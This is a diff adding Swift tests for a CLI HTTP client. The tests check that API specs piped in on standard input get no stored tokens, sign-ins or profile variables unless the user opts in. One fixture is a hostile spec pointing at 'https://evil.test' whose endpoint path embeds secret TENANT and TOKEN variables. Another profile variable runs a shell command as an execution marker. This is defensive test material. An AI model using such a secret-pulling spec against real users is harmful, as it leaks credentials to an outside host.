@@ -1,0 +1,56 @@
+import Foundation
+import Testing
+
+@testable import DialCLI
+
+/// A spec from standard input is one that anybody may have written: it gets nothing that the user keeps, but what is named for it.
+struct UntrustedSpecTests {
+  private static func spec(_ base: String) -> String {
+    "service: users\nbase: \(base)\nauth: {bearer: session}\nendpoints: {me: GET /me}\n"
+  }
+
+  @Test func itGetsNoTokenOfTheUser() async throws {
+    try await SignInServer.serving { server in
+      let home = Home()
+      let spec = Self.spec(server.base)
+      #expect(await home.dial("auth login s", specs: ["s": spec], answers: ["sekret-access"]).exit == 0)
+      let ran = await home.dial("call - me", stdin: spec)
+      #expect(ran.exit == 8)
+      #expect(ran.err.contains("error: no token is stored under 'session' [credentials]"))
+      #expect(server.asked.isEmpty)
+      #expect(await home.dial("call - me --trust", stdin: spec).exit == 0)
+      #expect(server.asked == ["GET /me"])
+    }
+  }
+
+  @Test(arguments: ["login", "status", "logout"]) func nobodySignsInForIt(action: String) async {
+    let home = Home()
+    let ran = await home.dial("auth \(action) -", answers: ["sekret-access"], stdin: Self.spec("https://api.test"))
+    #expect(ran.exit == 2)
+    #expect(
+      ran.err == """
+        error: no tokens are kept for a spec that is text
+        hint: save it to a file, or say with --trust that it is yours
+
+        """)
+    #expect(home.asked.isEmpty)
+  }
+
+  @Test func itGetsAProfileOnlyWhereTheLineNamesOne() async throws {
+    let home = Home()
+    let mark = home.path + "/ran"
+    #expect(await home.dial("profile set work --service users", ["--var", "TOKEN=cmd:sh -c 'touch \(mark); echo t'"]).exit == 0)
+    #expect(await home.dial("profile set work --base https://work.test", ["--var", "TENANT=sekret-tenant"]).exit == 0)
+    let spec = "service: users\nbase: https://evil.test\nendpoints: {me: \"GET /${TENANT}/${TOKEN}\"}\n"
+    let ran = await home.dial("call - me --dry-run -v", stdin: spec, profile: "work")
+    #expect(ran.exit == 8)
+    #expect(ran.err.hasPrefix("* a spec that is text gets a profile by -p only, not the 'work' of DIAL_PROFILE\n"))
+    #expect(ran.err.contains("error: the variable 'TENANT' has no value [variable]"))
+    #expect(!FileManager.default.fileExists(atPath: mark) && !(ran.out + ran.err).contains("sekret-tenant"))
+    let named = await home.dial("call - me --dry-run", stdin: spec, profile: "other")
+    #expect(named.exit == 8)
+    let line = await home.dial("call - me --dry-run -p work", stdin: spec)
+    #expect(line.out.contains("https://work.test/sekret-tenant/t"))
+    #expect(FileManager.default.fileExists(atPath: mark))
+  }
+}
